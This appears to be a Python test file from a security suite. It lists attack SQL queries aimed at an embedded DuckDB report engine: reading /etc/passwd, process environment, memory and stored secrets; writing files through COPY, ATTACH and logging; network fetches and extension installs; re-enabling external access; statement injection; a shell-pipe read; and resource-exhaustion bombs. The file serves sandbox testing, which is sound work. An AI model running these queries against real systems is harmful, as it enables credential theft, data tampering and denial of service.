"""SQL of report authors for the embedded DuckDB."""

from __future__ import annotations

from tests.attacks.vectors import Vector, Who

CANARY = "CANARY-of-the-pod"
FILE = "$FILE"  # a file of the run's pod that holds the canary, as CSV
FOLDER = "$FOLDER"  # where it is
PWNED = "$PWNED"  # a file that no query may make
URL = "$URL"  # a server that has to stay silent

_READ = {
    "read-text": f"SELECT content AS a FROM read_text('{FILE}')",
    "read-blob": f"SELECT content AS a FROM read_blob('{FILE}')",
    "read-csv": f"SELECT * FROM read_csv('{FILE}')",
    "read-csv-auto": f"SELECT * FROM read_csv_auto('{FILE}', header=false)",
    "read-json": f"SELECT * FROM read_json('{FILE}')",
    "read-json-objects": f"SELECT * FROM read_json_objects('{FILE}')",
    "read-ndjson": f"SELECT * FROM read_ndjson_auto('{FILE}')",
    "read-parquet": f"SELECT * FROM read_parquet('{FILE}')",
    "parquet-metadata": f"SELECT * FROM parquet_metadata('{FILE}')",
    "parquet-schema": f"SELECT * FROM parquet_schema('{FILE}')",
    "sniff-csv": f"SELECT * FROM sniff_csv('{FILE}')",
    "glob": f"SELECT * FROM glob('{FOLDER}/*')",
    "glob-etc": "SELECT * FROM glob('/etc/*')",
    "from-file": f"FROM '{FILE}'",
    "from-file-quoted": f'SELECT * FROM "{FILE}"',
    "from-passwd": "FROM '/etc/passwd'",
    "from-file-list": f"SELECT * FROM read_text(['{FILE}', '{FILE}'])",
    "from-file-url": f"SELECT * FROM read_text('file://{FILE}')",
    "proc-environ": "SELECT * FROM read_text('/proc/self/environ')",
    "proc-memory": "SELECT * FROM read_blob('/proc/self/mem')",
    "standard-input": "SELECT * FROM read_csv('/dev/stdin')",
    "descriptor": "SELECT * FROM read_text('/dev/fd/0')",
    "query-text": f"SELECT * FROM query('FROM read_text(''{FILE}'')')",
    "query-table": f"SELECT * FROM query_table('{FILE}')",
    "query-table-list": f"SELECT * FROM query_table(['facts', '{FILE}'])",
    "subquery": f"SELECT (SELECT max(content) FROM read_text('{FILE}')) AS a",
    "lateral": f"SELECT t.* FROM facts, LATERAL (FROM read_text('{FILE}')) t",
    "macro-of-table": "SELECT * FROM duckdb_functions() WHERE function_name = 'read_text' "
    "AND (SELECT count(*) FROM read_text('/etc/passwd')) > 0",
    "relative": "SELECT * FROM read_text('pyproject.toml')",
    "relative-up": "SELECT * FROM read_text('../../../../../../etc/passwd')",
    "replacement-of-python": "SELECT * FROM engine",
    "replacement-of-python-module": "SELECT * FROM os",
    "replacement-of-argument": "SELECT * FROM request",
    "getenv": "SELECT getenv('PATH') AS a",
    "stored-secrets": "SELECT * FROM duckdb_secrets()",
    "which-secret": f"SELECT * FROM which_secret('{URL}', 's3')",
    "wal": f"SELECT * FROM read_text('{FILE}.wal')",
}  # fmt: skip
_WRITE = {
    "copy-to": f"COPY (SELECT 1 AS a) TO '{PWNED}'",
    "copy-table": f"COPY facts TO '{PWNED}' (FORMAT parquet)",
    "copy-from": f"COPY facts FROM '{FILE}'",
    "copy-in-a-query": f"SELECT * FROM query('COPY facts TO ''{PWNED}''')",
    "copy-in-parentheses": f"SELECT * FROM (COPY facts TO '{PWNED}')",
    "export": f"EXPORT DATABASE '{PWNED}'",
    "import": f"IMPORT DATABASE '{FOLDER}'",
    "attach": f"ATTACH '{PWNED}'",
    "attach-read": f"ATTACH '{FILE}' AS other (READ_ONLY)",
    "attach-two": f"SELECT 1 AS a; ATTACH '{PWNED}'",
    "attach-memory": "ATTACH ':memory:' AS other",
    "attach-sqlite": f"ATTACH '{FILE}' (TYPE sqlite)",
    "attach-postgres": "ATTACH 'host=127.0.0.1' (TYPE postgres)",
    "detach": "DETACH memory",
    "checkpoint": "CHECKPOINT",
    "vacuum": "VACUUM",
    "log-to-file": f"PRAGMA log_query_path = '{PWNED}'",
    "profile-to-file": f"SET profile_output = '{PWNED}'",
    "enable-logging": f"CALL enable_logging(storage => 'file', storage_path => '{PWNED}')",
    "log-in-a-query": "SELECT * FROM enable_logging()",
    "truncate-logs": "CALL truncate_duckdb_logs()",
    "secret": f"CREATE PERSISTENT SECRET s (TYPE http, EXTRA_HTTP_HEADERS MAP {{'a': '{URL}'}})",
    "create-table": "CREATE TABLE other AS SELECT 1 AS a",
    "create-macro": f"CREATE MACRO m() AS TABLE FROM read_text('{FILE}')",
    "create-view": f"CREATE VIEW v AS FROM read_text('{FILE}')",
    "insert": "INSERT INTO facts VALUES (9)",
    "delete-returning": "SELECT * FROM (DELETE FROM facts RETURNING *)",
    "drop": "DROP TABLE facts",
    "temporary-files": "SELECT * FROM duckdb_temporary_files()",
    "use": "USE other",
    "prepare": "PREPARE p AS SELECT 1",
    "execute": "EXECUTE p",
    "explain-analyze": f"EXPLAIN ANALYZE FROM read_text('{FILE}')",
}  # fmt: skip
_NETWORK = {
    "http-csv": f"SELECT * FROM read_csv('{URL}/x.csv')",
    "http-text": f"SELECT * FROM read_text('{URL}/x')",
    "http-parquet": f"SELECT * FROM read_parquet('{URL}/x.parquet')",
    "http-from": f"FROM '{URL}/x.csv'",
    "s3": "SELECT * FROM read_parquet('s3://bucket/x.parquet')",
    "http-attach": f"ATTACH '{URL}/x.db' AS other",
    "install": "INSTALL httpfs",
    "install-from": f"INSTALL httpfs FROM '{URL}'",
    "install-force": "FORCE INSTALL httpfs",
    "install-community": "INSTALL shellfs FROM community",
    "install-file": f"INSTALL '{FILE}'",
    "load": "LOAD httpfs",
    "load-file": f"LOAD '{FILE}'",
    "autoload-function": "SELECT ST_Read('x') AS a",
    "autoload-type": f"SELECT * FROM sqlite_scan('{FILE}', 't')",
    "autoload-postgres": "SELECT * FROM postgres_scan('host=127.0.0.1', 'public', 't')",
    "autoload-excel": f"SELECT * FROM read_xlsx('{FILE}')",
    "update-extensions": "UPDATE EXTENSIONS",
    "extensions": "SELECT * FROM duckdb_extensions()",
    "http-get": f"SELECT http_get('{URL}/x') AS a",
    "shell": f"SELECT * FROM read_csv('touch {PWNED} |')",
}  # fmt: skip
_SETTINGS = {
    "set-access": "SET enable_external_access = true",
    "set-access-global": "SET GLOBAL enable_external_access = true",
    "set-lock": "SET lock_configuration = false",
    "reset-lock": "RESET lock_configuration",
    "set-memory": "SET memory_limit = '100GB'",
    "set-threads": "SET threads = 64",
    "set-temporary": f"SET temp_directory = '{FOLDER}'",
    "set-allowed": f"SET allowed_directories = ['{FOLDER}']",
    "set-allowed-paths": f"SET allowed_paths = ['{FILE}']",
    "set-replacements": "SET python_enable_replacements = true",
    "set-zone": "SET TimeZone = 'Etc/UTC'",
    "set-home": f"SET home_directory = '{FOLDER}'",
    "set-variable": "SET VARIABLE x = (SELECT 1)",
    "set-in-a-query": "SELECT set_config('enable_external_access', 'true') AS a",
    "pragma": "PRAGMA enable_external_access",
    "pragma-version": "PRAGMA version",
    "pragma-profiling": "PRAGMA enable_profiling",
    "pragma-statement": "PRAGMA memory_limit = '100GB'",
    "call-pragma": "CALL pragma_version()",
    "set-then-read": f"SET enable_external_access = true; FROM read_text('{FILE}')",
    "comment-then-read": f"SELECT 1 AS a -- ;\n; FROM read_text('{FILE}')",
    "parenthesis": f"SELECT 1 AS a) t; FROM read_text('{FILE}'); SELECT * FROM (SELECT 1 AS a",
    "with-set": "WITH x AS (SET threads = 64) SELECT 1 AS a",
}  # fmt: skip
_SLOW = {
    "cross-join": "SELECT count(*) AS a FROM range(10000000) x, range(10000000) y",
    "recursion": "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) "
    "SELECT count(*) AS a FROM r",
    "recursion-rows": "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) "
    "SELECT n FROM r",
    "recursion-wide": "WITH RECURSIVE r AS (SELECT 'x' AS n UNION ALL SELECT n || n FROM r) "
    "SELECT max(length(n)) AS a FROM r",
    "rows-without-end": "SELECT * FROM range(100000000000) r(i)",
    "list-bomb": "SELECT list(i)::VARCHAR AS a FROM range(1000000000) r(i)",
    "text-bomb": "SELECT repeat('x', 2000000000) AS a",
    "text-rows": "SELECT repeat('x', 1000000) AS a FROM range(100000)",
    "text-cells": "SELECT repeat('x', 60000000) AS a FROM range(100)",
    "aggregate-bomb": "SELECT string_agg(repeat('x', 100000), '') AS a FROM range(100000)",
    "sort-bomb": "SELECT i, repeat('x', 500) AS t FROM range(100000000) r(i) ORDER BY hash(i)",
    "hash-bomb": "SELECT count(*) AS a FROM (SELECT DISTINCT hash(i) FROM range(1000000000) r(i))",
    "range-bomb": "SELECT length(range(10000000000)) AS a",
    "regexp": "SELECT regexp_matches(repeat('a', 5000000) || '!', '^(a+)+$') AS a "
    "FROM range(100000)",
    "json-deep": "SELECT json(repeat('[', 5000000) || repeat(']', 5000000)) AS a",
    "decimal-power": "SELECT 10::BIGNUM AS a FROM range(1000000000) ORDER BY random()",
    "columns": "SELECT " + ", ".join(f"{n} AS c{n}" for n in range(4000)) + " FROM range(1000000)",
    "nested": "SELECT " + "(" * 900 + "1" + ")" * 900 + " AS a FROM range(100000000)",
    "nested-deep": "SELECT " + "(" * 25000 + "1" + ")" * 25000 + " AS a",
    "nested-calls": "SELECT " + "abs(" * 12000 + "1" + ")" * 12000 + " AS a",
    "pivot-wide": "PIVOT (SELECT i, i AS v FROM range(100000) r(i)) ON i USING sum(v)",
}  # fmt: skip

QUERIES = [
    Vector("duckdb", name, Who.AUTHOR, text)
    for table in (_READ, _WRITE, _NETWORK, _SETTINGS, _SLOW)
    for name, text in table.items()
]
